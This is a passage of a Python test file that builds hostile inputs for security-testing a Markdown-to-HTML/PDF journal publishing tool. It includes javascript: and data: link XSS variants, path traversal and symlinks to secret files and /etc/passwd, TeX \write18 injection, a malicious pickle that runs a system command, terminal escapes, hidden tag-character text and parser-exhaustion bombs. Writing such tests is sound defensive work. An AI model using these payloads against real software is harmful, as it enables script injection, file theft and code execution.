        "javascript": "javascript:alert(1)", "javascript-capitals": "JaVaScRiPt:alert(1)", "javascript-blank": "%20javascript:alert(1)",
        "javascript-control": "<\x01javascript:alert(1)>", "javascript-entity": "&#106;avascript:alert(1)", "vbscript": "vbscript:msgbox(1)",
        "javascript-tab": "java&Tab;script:alert(1)", "javascript-newline": "java&NewLine;script:alert(1)",
        "data": "data:text/html,<script>alert(1)</script>", "file": "file:///etc/passwd", "blob": "blob:x",
        "javascript-path": "javascript:a/b?c#alert(1)"}
    return {f"link-{name}": Input("links", f"Мәтін [мәтін]({target}) және ![с]({target}) және <{target}>.\n", finding="-",
                                  absent=('href="JaVa', 'href="\x01java', 'href="vbscript', 'href="data:text', 'href="file:', 'href="blob',
                                          'href="java', 'href=" java'))
            for name, target in targets.items()}


def _paths() -> dict[str, Input]:
    return {
        "issue-names-a-path": Input("paths", journal={"source/2026-1/issue.yaml": "volume: '1'\nnumber: '1'\ndate: 2026-03-30\narticles:\n"
                                                      "  - {folder: ../../../outside}\n  - {folder: specimen}\n"}, finding="-"),
        "issue-names-an-absolute": Input("paths", journal={"source/2026-1/issue.yaml": "volume: '1'\nnumber: '1'\ndate: 2026-03-30\n"
                                                           "articles:\n  - {folder: \"{outside}\"}\n  - {folder: '..'}\n"}, finding="-"),
        "output-is-a-link": Input("paths", links={"../../../output/2026-1": "{outside}"}, finding="leads out"),
        "article-is-a-link": Input("paths", links={"../stolen": "{outside}"}),
        "affiliation-id-path": Input("paths", front="affiliations:\n- {id: ../../x, name: {kk: А}}\nauthors:\n- name: {kk: А Б}\n"
                                     "  affiliations: [../../x]\n", finding="FM-"),
        "heading-id-path": Input("paths", "## Тақырып {#../../x}\n\n[а](#../../x)\n"),
        "csl-path": Input("paths", front="csl: ../../../outside/secret\n", finding="SRC-"),
        "language-path": Input("paths", front="language: ../../../outside/secret\n", finding="SRC-"),
        "language-unknown-long": Input("paths", front=f"title: {{{'q' * 3000}: А}}\n".replace("title", "abstract"), finding="SRC-"),
        "include": Input("paths", "!include {outside}/secret.txt\n\n```{.include}\n{outside}/secret.txt\n```\n\n"
                         "{{< include {outside}/secret.txt >}}\n", finding=""),
    }


def _text() -> dict[str, Input]:
    def text(body: str, finding: str = "SRC-", **more: object) -> Input:
        return Input("text", body, finding=finding, **more)

    return {
        "deep-quotes": text("> " * 3_000 + "мәтін\n"),
        "deep-lists": text("".join("  " * n + "- а\n" for n in range(600))),
        "deep-lists-in-line": text("- " * 2_000 + "а\n"),
        "deep-brackets": text("[" * 20_000 + "мәтін" + "]" * 20_000 + "\n"),
        "deep-brackets-apart": text("[" * 20_000 + "\n\n" + "(" * 20_000 + "\n", ""),
        "deep-links": text("[а" * 2_000 + "](b)" * 2_000 + "\n"),
        "deep-emphasis": text("*а **а " * 5_000 + "\n", "-"),
        "deep-divs": text("".join(":" * (n + 3) + " {.a}\n" for n in range(400, 0, -1)) + "а\n"),
        "deep-notes": text("а^[" * 500 + "а" + "]" * 500 + "\n"),
        "deep-superscripts": text("^".join("а" for _ in range(20_000)) + "\n"),
        "backticks": text("".join("`" * n + "а" for n in range(1, 900)) + "\n", ""),
        "long-word": text("а" * 100_000 + "\n"),
        "long-word-of-signs": text("-" * 100_000 + "\n\n" + "_" * 99_999 + "а\n\n" + "!" * 100_000 + "\n"),
        "long-line": text("мәтін " * 100_000 + "\n"),
        "many-notes": text("".join(f"а[^{n}] " for n in range(100_000)) + "\n\n" + "".join(f"[^{n}]: б\n\n" for n in range(100_000))),
        "many-inline-notes": text("а^[б] " * 100_000 + "\n"),
        "many-citations": text("[@a] " * 100_000 + "\n", files={"a.bib": "@book{a, title={T}, author={A, B}, year=2001}\n"}),
        "many-citations-at-once": text("[" + "; ".join(f"@k{n}" for n in range(20_000)) + "]\n", "-"),
        "many-headings": text("".join(f"## Т{n}\n\n" for n in range(100_000))),
        "many-paragraphs": text("а\n\n" * 100_000),
        "many-list-items": text("- а\n" * 100_000),
        "many-links": text("[а](b) " * 100_000 + "\n"),
        "many-references-defined": text("".join(f"[а{n}]: b\n" for n in range(50_000)), ""),
        "many-figures-referred": text("@fig:a " * 30_000 + "\n", "-"),
        "many-breaks": text("---\n\n" * 100_000),
        "wide-table": text("|" + "а|" * 3_000 + "\n|" + "-|" * 3_000 + "\n|" + "б|" * 3_000 + "\n"),
        "long-table": text("|а|б|\n|-|-|\n" + "|в|г|\n" * 50_000),
        "large-table": text("|" + "а|" * 300 + "\n|" + "-|" * 300 + "\n" + ("|" + "б|" * 300 + "\n") * 300),
        "table-in-table": text("+---+\n| " * 40 + "\n", ""),
        "grid": text(("+" + "---+" * 200 + "\n|" + " а |" * 200 + "\n") * 60 + "+" + "---+" * 200 + "\n"),
        "long-number": text("9" * 100_000 + ". а\n\n" + "9" * 9 + ". б\n", ""),
        "front-matter-in-text": text("мәтін\n\n---\nbibliography: {outside}/secret.bib\nheader-includes: x\n---\n\nмәтін\n", ""),
    }


def _bytes() -> dict[str, Input]:
    front = f"---\n{FRONT}---\n\n"
    return {
        "nul": Input("bytes", whole=(front + "мә\0тін\n").encode(), finding="SRC-009"),
        "controls": Input("bytes", front="", text="".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 160)])) + "а\n"),
        "escape-to-the-terminal": Input("bytes", text="[а](\x1b]0;made\x07) \x1b[2J @\x1b[31mkey\n", front="\"\x1b[2J\": x\n".replace("\x1b", "\\e"),
                                        finding="SRC-"),
        "bidi": Input("bytes", text="мәтін \u202eнітәм\u202c \u2066а\u2069 \u200f \u061c\n", finding="TYP-020"),
        "bidi-unclosed": Input("bytes", text="\u202e\u2067\u202d" * 3_000 + "а\n", finding="SRC-027"),
        "bidi-many": Input("bytes", text="\u202e\u2067\u202d " * 3_000 + "а\n", finding="SRC-027"),
        "bidi-within-the-limit": Input("bytes", text="\u202e\u2067\u202d " * 330 + "а\n", finding="TYP-020"),
        "joiners": Input("bytes", text="а" + "\u0301" * 50_000 + "\n\n" + "\u200d" * 50_000 + "\n", finding=""),
        "noncharacters": Input("bytes", text="\ufffe\uffff\U0001ffff\ufdd0\ue000\U0010ffff а\n"),
        "tags": Input("bytes", text="а" + "".join(chr(0xE0000 + ord(each)) for each in "ignore this") + "\n"),
        "bad-utf-8": Input("bytes", whole=front.encode() + b"\xc3\x28\xf0\x28\x8c\x28\xed\xa0\x80\n", finding="SRC-009"),
        "overlong": Input("bytes", whole=front.encode() + b"\xc0\xaf\xe0\x80\xaf\n", finding="SRC-009"),
        "utf-16": Input("bytes", whole=(front + "мәтін\n").encode("utf-16"), finding="SRC-016"),
        "utf-16-odd": Input("bytes", whole=(front + "мәтін\n").encode("utf-16")[:-1], finding="SRC-009"),
        "utf-32": Input("bytes", whole=(front + "мәтін\n").encode("utf-32"), finding="SRC-016"),
        "marks": Input("bytes", whole=b"\xef\xbb\xbf" * 3 + front.encode() + "мәтін\n".encode(), finding=""),
        "noise": Input("bytes", whole=random.Random(3).randbytes(100_000), finding="SRC-009"),
        "zip": Input("bytes", whole=b"PK\x03\x04" + random.Random(4).randbytes(50_000), finding="SRC-009"),
        "huge": Input("bytes", whole=b"a" * 6_000_000, finding="SRC-011"),
        "endless-spaces": Input("bytes", text="а" + " " * 2_000_000 + "\n" * 500_000 + "б\n", finding=""),
        "returns": Input("bytes", whole=(front + "а\r" * 2_000 + "б\x85\u2028\u2029в\n").encode()),
        "manuscript-symlink": Input("paths", links={"article.md": "{outside}/secret.txt"}, finding="-"),
        "manuscript-device": Input("paths", links={"article.md": "/dev/zero"}, finding="-"),
    }


def _formulas() -> dict[str, Input]:
    def formula(tex: str, finding: str = "", **more: object) -> Input:
        return Input("formulas", f"Мәтін $x$.\n\n$${tex}$$\n", finding=finding, **more)

    return {
        "tex-macros": formula("\\def\\a{xx}" + "".join(f"\\def\\{chr(98 + n)}{{\\{chr(97 + n)}\\{chr(97 + n)}}}" for n in range(24)) + "\\y", "-"),
        "tex-recursive": formula("\\def\\a{\\a\\a}\\a", "-"),
        "tex-newcommand": Input("formulas", "\\newcommand{\\a}{\\a\\a}\n\n$\\a$\n", finding="-"),
        "tex-fractions": formula("\\frac{1}{" * 400 + "x" + "}" * 400, "SRC-027"),
        "tex-roots": formula("\\sqrt{" * 2_000 + "x" + "}" * 2_000, "SRC-027"),
        "tex-exponents": formula("x^{" * 1_000 + "x" + "}" * 1_000, "SRC-027"),
        "tex-exponents-in-line": Input("formulas", "$5 $" + "x^{" * 2_000 + "x" + "}" * 2_000 + "$\n", finding="SRC-027"),
        "tex-brackets": formula("\\left(" * 1_000 + "x" + "\\right)" * 1_000, "SRC-027"),
        "tex-long": formula("x+" * 30_000 + "x", "-"),
        "tex-matrix": formula("\\begin{matrix}" + ("a&" * 100 + "b\\\\") * 200 + "\\end{matrix}", "-"),
        "tex-input": formula("\\input{{outside}/secret.txt}\\write18{touch made}\\href{javascript:alert(1)}{x}", "-",
                             absent=('href="javascript',)),
        "tex-html": formula("\\text{<script>alert(1)</script>}\\class{a}{x}", "", absent=("<script>alert",)),
        "tex-rule": formula("\\rule{99999999em}{99999999em}\\hspace{1000000000em}x\\kern-99999em", ""),
        "tex-many": Input("formulas", "$x$ " * 20_000 + "\n", finding="SRC-"),
        "tex-unclosed": formula("\\begin{matrix}{{{\\left(", "-"),
        "tex-huge-size": formula("{\\Huge\\Huge " * 300 + "x" + "}" * 300, "SRC-027"),
    }


def _templates() -> dict[str, Input]:
    """A journal's own files are the editor's; even so they reach nothing else of the machine."""
    return {
        "style-remote": Input("styles", journal={"styles/print-classic.css": '@import "{address}/a.css"; body { background: url({address}/b) }\n'
                                                 '@font-face { font-family: x; src: url({address}/c) } p { background: url(file:///etc/passwd) }\n'},
                              finding=""),
        "style-attachment": Input("styles", journal={"templates/pdf.html": '<html lang="kk"><head><title>x</title><link rel="attachment" '
                                                     'href="file://{outside}/secret.txt"></head><body><img src="file://{outside}/secret.png" '
                                                     'alt="x"><p id="end">x</p></body></html>'}, finding="-"),
        "template-loop": Input("styles", journal={"templates/html.html": "{% include 'html.html' %}"}, finding="-"),
        "template-elsewhere": Input("styles", journal={"templates/html.html": "{% include '../../outside/secret.txt' %}"}, finding="-"),
        "template-broken": Input("styles", journal={"templates/html.html": "{% if %}"}, finding="-"),
        "cache-of-a-stranger": Input("cache", journal={"source/.basylym/x": b"\x80\x04cos\nsystem\n(S'touch made'\ntR.",
                                                       ".basylym/x": b"\x80\x04cos\nsystem\n"}),
        "font-broken": Input("fonts", FIGURE.format("figures/a.svg"), files={
            **svg('<style>@font-face{font-family:a;src:url(a.ttf)}</style><text font-family="a" y="9">x</text>'),
            "figures/a.ttf": b"\0\1\0\0" + random.Random(5).randbytes(20_000)}, finding="FIG-"),
        "font-in-data": Input("fonts", FIGURE.format("figures/a.svg"), files=svg(
            '<style>@font-face{font-family:a;src:url(data:font/ttf;base64,AAEAAAAA)}</style><text font-family="a" y="9">x</text>'),
            finding="FIG-"),
    }
